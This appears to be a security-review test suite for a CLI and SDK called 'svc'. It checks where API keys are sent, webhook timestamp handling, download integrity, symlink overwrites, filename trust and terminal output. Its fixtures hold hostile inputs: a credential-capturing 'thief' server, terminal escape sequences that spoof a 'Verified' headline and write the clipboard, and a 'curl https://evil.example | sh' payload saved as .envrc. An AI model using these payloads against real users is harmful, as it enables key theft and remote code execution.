/**
 * Hostile review of the `svc` CLI and the SDK it wraps (#21): where a key may travel, what a verifier accepts,
 * what an integrity check does when the service's answer lacks what it checks against. Each failing test is a
 * finding (marked FINDING); each passing one documents a property that held.
 */
import { existsSync, mkdirSync, mkdtempSync, readFileSync, rmSync, symlinkSync, writeFileSync } from "node:fs";
import { createServer, request as httpRequest, type IncomingHttpHeaders, type Server } from "node:http";
import type { AddressInfo } from "node:net";
import { networkInterfaces, tmpdir } from "node:os";
import { join } from "node:path";
import { Webhook } from "standardwebhooks";
import { afterAll, beforeAll, describe, expect, it } from "vitest";
import type { Context } from "../../../packages/cli/src/command.ts";
import { writeFileAtomic } from "../../../packages/cli/src/commands/shared.ts";
import { printVerdict } from "../../../packages/cli/src/commands/verify.ts";
import { resolveConfig } from "../../../packages/cli/src/config.ts";
import { EXIT } from "../../../packages/cli/src/exit.ts";
import { main } from "../../../packages/cli/src/main.ts";
import { createSvcClient, SvcIntegrityError } from "../../../packages/client/src/index";

const scratch = mkdtempSync(join(tmpdir(), "svc-cli-review-"));
afterAll(() => rmSync(scratch, { recursive: true, force: true }));

/** Runs `svc …` in-process with exactly `env` (no default base URL) in `cwd`. */
async function svc(args: string[], env: Record<string, string>, cwd = scratch) {
  let stdout = "";
  let stderr = "";
  const code = await main(args, {
    stdout: { write: (t: string) => (stdout += t) },
    stderr: { write: (t: string) => (stderr += t) },
    env: { NO_COLOR: "1", ...env },
    cwd,
    signal: new AbortController().signal,
  });
  return { code, stdout, stderr };
}

/** A server standing in for whoever a `.svc/dev.env` in an untrusted directory points at: records what it is sent. */
let thief: Server;
let thiefUrl = "";
const stolen: IncomingHttpHeaders[] = [];
beforeAll(async () => {
  thief = createServer((req, res) => {
    stolen.push(req.headers);
    req.resume();
    res.writeHead(200, { "content-type": "application/json" }).end(JSON.stringify({ items: [], next_cursor: null }));
  });
  await new Promise<void>((ok) => thief.listen(0, "127.0.0.1", ok));
  thiefUrl = `http://127.0.0.1:${(thief.address() as AddressInfo).port}`;
});
afterAll(() => new Promise<void>((ok) => thief.close(() => ok())));

describe("#21 review: where the CLI sends an API key", () => {
  const realKey = `svc_live_${"p".repeat(51)}a`;

  it("a production key from SVC_API_KEY is not sent to the address a .svc/dev.env of an untrusted checkout names", async () => {
    // A repository the user cloned (or any parent directory of the working directory) carries .svc/dev.env with
    // someone else's address and no key; the user's shell exports their own production key and no base URL.
    const cloned = join(scratch, "cloned-repo");
    mkdirSync(join(cloned, ".svc"), { recursive: true });
    mkdirSync(join(cloned, "src"), { recursive: true });
    writeFileSync(join(cloned, ".svc", "dev.env"), `SVC_API_BASE_URL=${thiefUrl}\n`);

    // FINDING: resolveConfig takes the base URL from dev.env and the key from the environment and pairs them, so
    // the environment's key goes to the file's address (config.ts says only that the dev.env *key* stays with its
    // address). Fix: use a dev.env base URL only with the dev.env key (an environment key without
    // SVC_API_BASE_URL goes to the default address, or is refused), or accept only a loopback dev.env address.
    // End to end: the real command line, from a subdirectory of that checkout.
    stolen.length = 0;
    await svc(["jobs", "list"], { SVC_API_KEY: realKey }, join(cloned, "src"));
    expect(stolen.map((h) => h.authorization ?? null)).not.toContain(`Bearer ${realKey}`);
    const config = resolveConfig({ SVC_API_KEY: realKey }, join(cloned, "src"));
    expect(config.apiKey === null || config.baseUrl !== thiefUrl, `${config.baseUrl} with key from ${config.apiKeySource}`).toBe(true);
  });

  it("holds: the dev.env key never leaves its own address (flag and environment base URLs)", async () => {
    const repo = join(scratch, "dev-repo");
    mkdirSync(join(repo, ".svc"), { recursive: true });
    const devKey = `svc_live_${"d".repeat(51)}a`;
    writeFileSync(join(repo, ".svc", "dev.env"), `SVC_API_BASE_URL=http://127.0.0.1:1\nSVC_API_KEY=${devKey}\n`);
    stolen.length = 0;
    await svc(["jobs", "list", "--base-url", thiefUrl], {}, repo);
    await svc(["jobs", "list"], { SVC_API_BASE_URL: `${thiefUrl}/` }, repo);
    // A look-alike spelling of the dev address is another address: no key.
    expect(resolveConfig({}, repo, "http://127.0.0.1:1@127.0.0.1:2").apiKey).toBeNull();
    for (const h of stolen) expect(h.authorization).toBeUndefined();
  });
});

describe("#21 review: keys and third-party addresses", () => {
  it("holds: `svc verify URL` fetches a third party's file without the key; --public sends no key to the service", async () => {
    const key = `svc_live_${"v".repeat(51)}a`;
    stolen.length = 0;
    await svc(["verify", `${thiefUrl}/photo.jpg`], { SVC_API_KEY: key, SVC_API_BASE_URL: "http://127.0.0.1:1" });
    await svc(["verify", "ast_abcdefghij234567", "--public"], { SVC_API_KEY: key, SVC_API_BASE_URL: thiefUrl });
    expect(stolen.length).toBe(2);
    for (const h of stolen) expect(h.authorization).toBeUndefined();
  });
});

describe("#21 review: svc webhooks verify", () => {
  const secret = `whsec_${Buffer.from("review-secret-review-secret-0123").toString("base64")}`;
  const wh = new Webhook(secret);
  const body = JSON.stringify({ id: "whevt_abcdefghij234567", type: "asset.signed", data: { asset_id: "ast_abcdefghij234567" } });
  const saved = (name: string, at: Date) => {
    const id = "whevt_abcdefghij234567";
    const headers = {
      "webhook-id": id,
      "webhook-timestamp": String(Math.floor(at.getTime() / 1000)),
      "webhook-signature": wh.sign(id, at, body),
    };
    const path = join(scratch, name);
    writeFileSync(path, JSON.stringify({ headers, body_base64: Buffer.from(body).toString("base64") }));
    return path;
  };
  const env = { SVC_WEBHOOK_SECRET: secret };

  it("--tolerance is honoured: a delivery 200 s old is refused with --tolerance 10, and an hour-old one accepted with --tolerance 7200", async () => {
    const twoMinutes = saved("t200.json", new Date(Date.now() - 200_000));
    // Sanity: within the default 300 s it is valid.
    expect((await svc(["webhooks", "verify", twoMinutes], env)).code).toBe(EXIT.ok);
    // FINDING: the --tolerance flag is declared and documented ("Accept timestamps this far from now") but never
    // read: checkDelivery always uses the library's fixed 300 s, so a stricter tolerance silently accepts stale
    // (replayable) deliveries and a wider one refuses fresh-enough ones. Fix: read it with intFlag and check
    // |now - webhook-timestamp| <= tolerance before (or instead of) the library's window; reject non-numbers (exit 2).
    const strict = await svc(["webhooks", "verify", twoMinutes, "--tolerance", "10"], env);
    expect(strict.code, strict.stdout).toBe(EXIT.integrity);
    const hourOld = saved("t3600.json", new Date(Date.now() - 3600_000));
    expect((await svc(["webhooks", "verify", hourOld, "--tolerance", "7200"], env)).code).toBe(EXIT.ok);
    expect((await svc(["webhooks", "verify", twoMinutes, "--tolerance", "soon"], env)).code).toBe(EXIT.usage);
  });

  it("holds: a delivery signed in the future (beyond 300 s) and an unsigned one are refused, exit 8", async () => {
    const future = saved("future.json", new Date(Date.now() + 3600_000));
    expect((await svc(["webhooks", "verify", future], env)).code).toBe(EXIT.integrity);
    const unsigned = join(scratch, "unsigned.json");
    writeFileSync(
      unsigned,
      JSON.stringify({
        headers: { "webhook-id": "whevt_abcdefghij234567", "webhook-timestamp": String(Math.floor(Date.now() / 1000)) },
        body_base64: Buffer.from(body).toString("base64"),
      }),
    );
    expect((await svc(["webhooks", "verify", unsigned], env)).code).toBe(EXIT.integrity);
    expect((await svc(["webhooks", "verify", unsigned, "--ignore-timestamp"], env)).code).toBe(EXIT.integrity);
  });
});

describe("#21 review: SDK download integrity when the answer lacks the hash", () => {
  const KEY = `svc_live_${"k".repeat(51)}a`;
  /** A fake service: the download capability states no SHA-256 (a proxy, an old server, a bug). */
  function clientFor(capability: Record<string, unknown>, file: Uint8Array) {
    const seen: { url: string; auth: string | null }[] = [];
    const fetch = async (request: Request) => {
      seen.push({ url: request.url, auth: request.headers.get("authorization") });
      const url = new URL(request.url);
      if (url.pathname.endsWith("/download")) return Response.json(capability, { status: 200 });
      if (url.pathname === "/storage/f") return new Response(file, { status: 200 });
      return Response.json({ code: "svc.route.not_found", message: "no", request_id: "req_x", retryable: false }, { status: 404 });
    };
    return { client: createSvcClient({ apiKey: KEY, baseUrl: "http://api.test", fetch, retry: false }), seen };
  }
  const base = { filename: "ast_abcdefghij234567.jpg", media_type: "image/jpeg", headers: {}, sidecar_manifest: null };

  it("a capability without sha256 (or byte_length) is refused as an integrity failure, never downloaded unchecked", async () => {
    const file = new TextEncoder().encode("attacker-chosen bytes");
    for (const capability of [
      { ...base, url: "http://api.test/storage/f", byte_length: file.length },
      { ...base, url: "http://api.test/storage/f", byte_length: file.length, sha256: null },
      { ...base, url: "http://api.test/storage/f", sha256: "0".repeat(64) },
    ]) {
      const { client } = clientFor(capability, file);
      const outcome = await client.download("ast_abcdefghij234567").then(
        (d) => `accepted ${d.byte_length} bytes`,
        (e: Error) => e,
      );
      // FINDING (low): with no sha256 the check throws a TypeError ("reading 'toLowerCase'") rather than
      // SvcIntegrityError, so the CLI exits 1 (unexpected failure) instead of 8 (integrity). Fix: treat a missing or
      // malformed sha256/byte_length in the capability as an SvcIntegrityError before fetching.
      expect(outcome, JSON.stringify(capability)).toBeInstanceOf(SvcIntegrityError);
    }
  });

  it("holds: the API key goes to the API's origin only, never to the capability URL (same origin or not)", async () => {
    const file = new TextEncoder().encode("bytes");
    const digest = Buffer.from(await crypto.subtle.digest("SHA-256", file)).toString("hex");
    for (const url of ["http://api.test/storage/f", "http://storage.test/storage/f"]) {
      const { client, seen } = clientFor({ ...base, url, byte_length: file.length, sha256: digest }, file);
      await client.download("ast_abcdefghij234567");
      expect(seen.find((s) => s.url.endsWith("/download"))?.auth).toBe(`Bearer ${KEY}`);
      expect(seen.find((s) => s.url === url)?.auth).toBeNull();
    }
  });
});

describe("#21 review: files the CLI writes", () => {
  it("a download into a shared --out directory does not write through a planted symlink at the predictable temporary name", () => {
    // `svc sign FILE --out /tmp/shared` (or any directory another local user can write): the temporary name is
    // `<target>.part-<pid>`, known in advance, and writeFileSync follows a symlink planted there.
    const shared = join(scratch, "shared-out");
    mkdirSync(shared, { recursive: true });
    const victim = join(scratch, "victim-rc");
    writeFileSync(victim, "the user's own file\n");
    const target = join(shared, "ast_abcdefghij234567.jpg");
    symlinkSync(victim, `${target}.part-${process.pid}`);
    try {
      writeFileAtomic(shared, "ast_abcdefghij234567.jpg", new TextEncoder().encode("signed bytes"));
    } catch {
      // refusing is fine too
    }
    // FINDING (low): the signed bytes overwrite the symlink's target (the user's file). Fix: create the temporary
    // file with flag "wx" (O_CREAT|O_EXCL, no symlink follow) under a random name (e.g. mkdtemp in --out, or
    // crypto.randomUUID()), mode 0o600, then rename.
    expect(readFileSync(victim, "utf8")).toBe("the user's own file\n");
  });
});

describe("#21 review: SDK and redirects", () => {
  it("holds (Node's fetch): the API origin redirecting elsewhere does not carry the key there", async () => {
    const redirector = createServer((req, res) => {
      req.resume();
      res.writeHead(307, { location: `${thiefUrl}/v1/jobs` }).end();
    });
    await new Promise<void>((ok) => redirector.listen(0, "127.0.0.1", ok));
    try {
      const key = `svc_live_${"r".repeat(51)}a`;
      const client = createSvcClient({
        apiKey: key,
        baseUrl: `http://127.0.0.1:${(redirector.address() as AddressInfo).port}`,
        retry: false,
      });
      stolen.length = 0;
      await client.api.GET("/v1/jobs", {}).catch(() => undefined);
      await client.waitForJob("job_abcdefghij234567", { initialIntervalMs: 1, timeoutMs: 2000 }).catch(() => undefined);
      expect(stolen.length).toBeGreaterThan(0);
      for (const h of stolen) expect(h.authorization).toBeUndefined();
    } finally {
      await new Promise<void>((ok) => redirector.close(() => ok()));
    }
  });
});

describe("#21 review: what `svc verify` prints from a file's own manifest", () => {
  it("strings a signer wrote (generator, organization, warnings) cannot drive the terminal", () => {
    // A self-signed file carries any claim_generator_info name and certificate O= it likes (UTF8String allows ESC);
    // the service reports them as claims.generator / claims.origin, and svc prints them to the user's terminal.
    // Here: erase the line above and overwrite the headline, set the window title, and write the clipboard (OSC 52).
    const spoof = "\u001b[1A\u001b[2K\rVerified Content Credentials\u001b]0;pwned\u0007\u001b]52;c;Y3VybCBldmlsIHwgc2g=\u0007\u009b31m";
    let printed = "";
    const ctx = {
      paint: (_: string, t: string) => t,
      out: (t: string) => {
        printed += t;
      },
    } as unknown as Context;
    printVerdict(ctx, {
      status: "valid_manifest_untrusted_signer",
      confidence: 0.5,
      user_explanation: "Intact manifest from an unknown signer.",
      claims: { origin: `Evil Org${spoof}`, generator: `Camera${spoof}`, created_at: null },
      proves: [],
      does_not_prove: [],
      warnings: [`remote warning${spoof}`],
    } as never);
    expect(printed).toContain("Camera");
    // FINDING: printVerdict writes claims.origin/generator (and warnings, explanations) as received, so a signer's
    // escape sequences reach the terminal: a valid_manifest_untrusted_signer file can repaint itself as "Verified"
    // or write the clipboard. Fix: replace C0/C1 controls (except \n) and ESC in every server-provided string before
    // printing (one helper in output.ts used by every human-readable printer); --json is unaffected.
    expect(printed).not.toMatch(/[\u0000-\u0009\u000b-\u001f\u007f-\u009f]/);
  });
});

describe("#21 review: names of downloaded files", () => {
  it("`svc assets download` writes only an asset-shaped name, whatever filename the answer states", async () => {
    // A service the user did not mean to trust (see the dev.env finding above), or a proxy on plain http, answers
    // a download whose bytes match their stated hash but whose filename is a dot-file the shell or direnv runs.
    const payload = new TextEncoder().encode("curl https://evil.example | sh\n");
    const digest = Buffer.from(await crypto.subtle.digest("SHA-256", payload)).toString("hex");
    const server = createServer((req, res) => {
      req.resume();
      const origin = `http://127.0.0.1:${(server.address() as AddressInfo).port}`;
      if (req.url?.endsWith("/download"))
        return void res.writeHead(200, { "content-type": "application/json" }).end(
          JSON.stringify({
            url: `${origin}/storage/x`,
            method: "GET",
            headers: {},
            expires_at: new Date(Date.now() + 60_000).toISOString(),
            filename: ".envrc",
            media_type: "image/jpeg",
            sha256: digest,
            byte_length: payload.length,
            sidecar_manifest: null,
          }),
        );
      res.writeHead(200, { "content-type": "image/jpeg" }).end(payload);
    });
    await new Promise<void>((ok) => server.listen(0, "127.0.0.1", ok));
    const out = join(scratch, "download-out");
    mkdirSync(out, { recursive: true });
    try {
      const r = await svc(["assets", "download", "ast_abcdefghij234567", "--out", out], {
        SVC_API_KEY: `svc_live_${"q".repeat(51)}a`,
        SVC_API_BASE_URL: `http://127.0.0.1:${(server.address() as AddressInfo).port}`,
      });
      // FINDING (low): downloadInto writes under the answer's `filename` after only a basename check, so any
      // non-path name is accepted: `.envrc`, `.bashrc` (when run in $HOME), `package.json`. The help says the file
      // is "<asset id>.<ext>". Fix: build the name from the asset id and an extension of the media type, or refuse a
      // filename not matching ^ast_[a-z2-7]{16}(\.[a-z0-9]{1,8})+$ (exit 8).
      expect(existsSync(join(out, ".envrc")), `exit ${r.code}: ${r.stdout}${r.stderr}`).toBe(false);
    } finally {
      await new Promise<void>((ok) => server.close(() => ok()));
    }
  });
});

describe("#21 review: svc webhooks listen against a scripted service", () => {
  const secret = `whsec_${Buffer.from("listen-secret-listen-secret-0123").toString("base64")}`;
  const wh = new Webhook(secret);

  /** POSTs to the local receiver at `host`; resolves the status, or the connection error's code. */
  function deliver(host: string, port: number, headers: Record<string, string>, body: string): Promise<number | string> {
    return new Promise((ok) => {
      const req = httpRequest(
        { host, port, method: "POST", path: "/", headers: { "content-type": "application/json", ...headers } },
        (res) => {
          res.resume();
          res.on("end", () => ok(res.statusCode ?? 0));
        },
      );
      req.on("error", (e: NodeJS.ErrnoException) => ok(e.code ?? "error"));
      req.setTimeout(3000, () => req.destroy(Object.assign(new Error("timeout"), { code: "TIMEOUT" })));
      req.end(body);
    });
  }

  it("holds: loopback only; unsigned, forged and stale deliveries are refused 401 and never forwarded; a valid one is", async () => {
    const forwarded: string[] = [];
    const target = createServer((req, res) => {
      let b = "";
      req.on("data", (c) => (b += c));
      req.on("end", () => {
        forwarded.push(b);
        res.writeHead(204).end();
      });
    });
    const api = createServer((req, res) => {
      req.resume();
      if (req.method === "POST" && req.url === "/v1/webhook-endpoints")
        return void res
          .writeHead(201, { "content-type": "application/json" })
          .end(JSON.stringify({ endpoint: { endpoint_id: "whe_abcdefghij234567" }, secret }));
      res.writeHead(200, { "content-type": "application/json" }).end("{}");
    });
    await Promise.all([target, api].map((s) => new Promise<void>((ok) => s.listen(0, "127.0.0.1", ok))));
    const probe = createServer();
    await new Promise<void>((ok) => probe.listen(0, "0.0.0.0", ok));
    const port = (probe.address() as AddressInfo).port;
    await new Promise<void>((ok) => probe.close(() => ok()));

    const stop = new AbortController();
    let stdout = "";
    const run = main(
      [
        "webhooks",
        "listen",
        "--json",
        "--events",
        "asset.signed",
        "--port",
        String(port),
        "--forward",
        `http://127.0.0.1:${(target.address() as AddressInfo).port}/hook`,
      ],
      {
        stdout: { write: (t: string) => (stdout += t) },
        stderr: { write: () => undefined },
        env: {
          NO_COLOR: "1",
          SVC_API_KEY: `svc_live_${"l".repeat(51)}a`,
          SVC_API_BASE_URL: `http://127.0.0.1:${(api.address() as AddressInfo).port}`,
        },
        cwd: scratch,
        signal: stop.signal,
      },
    );
    try {
      for (let i = 0; i < 100 && !stdout.includes('"ready"'); i++) await new Promise((r) => setTimeout(r, 20));
      expect(stdout).toContain('"ready"');

      const external = Object.values(networkInterfaces())
        .flat()
        .find((a) => a && a.family === "IPv4" && !a.internal)?.address;
      if (external) expect(await deliver(external, port, {}, "{}")).toBe("ECONNREFUSED");

      const id = "whevt_abcdefghij234567";
      const body = JSON.stringify({ id, type: "asset.signed", data: { asset_id: "ast_abcdefghij234567" } });
      const now = new Date();
      const ts = String(Math.floor(now.getTime() / 1000));
      expect(await deliver("127.0.0.1", port, { "webhook-id": id, "webhook-timestamp": ts }, body)).toBe(401);
      expect(await deliver("127.0.0.1", port, { "webhook-id": id, "webhook-timestamp": ts, "webhook-signature": "v1,AAAA" }, body)).toBe(
        401,
      );
      const old = new Date(Date.now() - 400_000);
      expect(
        await deliver(
          "127.0.0.1",
          port,
          { "webhook-id": id, "webhook-timestamp": String(Math.floor(old.getTime() / 1000)), "webhook-signature": wh.sign(id, old, body) },
          body,
        ),
      ).toBe(401);
      expect(forwarded).toEqual([]);
      expect(
        await deliver("127.0.0.1", port, { "webhook-id": id, "webhook-timestamp": ts, "webhook-signature": wh.sign(id, now, body) }, body),
      ).toBe(204);
      expect(forwarded).toEqual([body]);
    } finally {
      stop.abort();
      // Ctrl-C is an interrupt (130), after the endpoint is deleted.
      expect(await run).toBe(EXIT.interrupted);
      await Promise.all([target, api].map((s) => new Promise<void>((ok) => s.close(() => ok()))));
    }
  });
});

describe("svc webhooks listen and Ctrl-C", () => {
  const secret = `whsec_${Buffer.from("listen-secret-listen-secret-0123").toString("base64")}`;

  /**
   * Runs `svc webhooks listen` in-process against a scripted API that records every request; `onRegister` runs when
   * the endpoint is being created, before the service answers (where a Ctrl-C lands while registering).
   */
  async function listenWith(signal: AbortController, json: boolean, onRegister: () => void = () => undefined) {
    const calls: string[] = [];
    const api = createServer((req, res) => {
      req.resume();
      calls.push(`${req.method} ${req.url}`);
      if (req.method === "POST" && req.url === "/v1/webhook-endpoints") {
        onRegister();
        return void res
          .writeHead(201, { "content-type": "application/json" })
          .end(JSON.stringify({ endpoint: { endpoint_id: "whe_abcdefghij234567" }, secret }));
      }
      res.writeHead(200, { "content-type": "application/json" }).end("{}");
    });
    await new Promise<void>((ok) => api.listen(0, "127.0.0.1", ok));
    let stdout = "";
    let stderr = "";
    const run = main(["webhooks", "listen", "--events", "asset.signed", ...(json ? ["--json"] : [])], {
      stdout: { write: (t: string) => (stdout += t) },
      stderr: { write: (t: string) => (stderr += t) },
      env: {
        NO_COLOR: "1",
        SVC_API_KEY: `svc_live_${"l".repeat(51)}a`,
        SVC_API_BASE_URL: `http://127.0.0.1:${(api.address() as AddressInfo).port}`,
      },
      cwd: scratch,
      signal: signal.signal,
    });
    // Hang guard only: a listener that missed its interrupt would wait for ever.
    let guard: ReturnType<typeof setTimeout> | undefined;
    const code = await Promise.race([run, new Promise<"hung">((ok) => (guard = setTimeout(() => ok("hung"), 30_000)))]);
    clearTimeout(guard);
    await new Promise<void>((ok) => api.close(() => ok()));
    return { code, stdout, stderr, calls };
  }

  it("Ctrl-C while the endpoint is being registered: no Ready line, the endpoint is deleted, exit 130", async () => {
    for (const json of [false, true]) {
      const stop = new AbortController();
      const r = await listenWith(stop, json, () => stop.abort());
      expect(r.code, r.stderr).toBe(EXIT.interrupted);
      expect(r.stderr).not.toContain("Ready");
      expect(r.stdout).not.toContain('"ready"');
      expect(r.stdout + r.stderr).not.toContain(secret);
      expect(r.calls).toEqual(["POST /v1/webhook-endpoints", "DELETE /v1/webhook-endpoints/whe_abcdefghij234567"]);
    }
  });

  it("Ctrl-C before the command starts: nothing registered, exit 130, no hang", async () => {
    const stop = new AbortController();
    stop.abort();
    const r = await listenWith(stop, false);
    expect(r.code, r.stderr).toBe(EXIT.interrupted);
    expect(r.stderr).not.toContain("Ready");
    expect(r.calls).toEqual([]);
  });
});

describe("#21 review: hostile answer sizes", () => {
  it("an error answer's body is read only up to a bound (an envelope is a few hundred bytes), not whole", async () => {
    let pulled = 0;
    const total = 64 * 1024 * 1024;
    const chunk = new Uint8Array(1024 * 1024).fill(0x78);
    const fetch = async () =>
      new Response(
        new ReadableStream<Uint8Array>({
          pull(controller) {
            if (pulled >= total) return controller.close();
            pulled += chunk.length;
            controller.enqueue(chunk);
          },
        }),
        { status: 500, headers: { "content-type": "application/json" } },
      );
    const client = createSvcClient({ apiKey: `svc_live_${"h".repeat(51)}a`, baseUrl: "http://api.test", fetch, retry: false });
    const error = await client.waitForJob("job_abcdefghij234567", { initialIntervalMs: 1 }).catch((e: Error) => e);
    expect(error).toBeInstanceOf(Error);
    // FINDING (low): errorFromResponse (and isRetryable's clone().json()) read the whole body, so a broken proxy or
    // hostile endpoint answering an endless 5xx body grows the caller's memory without bound. Fix: read error bodies
    // through readBody with a small limit (e.g. 64 KiB) and fall back to the status when over it.
    expect(pulled).toBeLessThanOrEqual(4 * 1024 * 1024);
  });
});
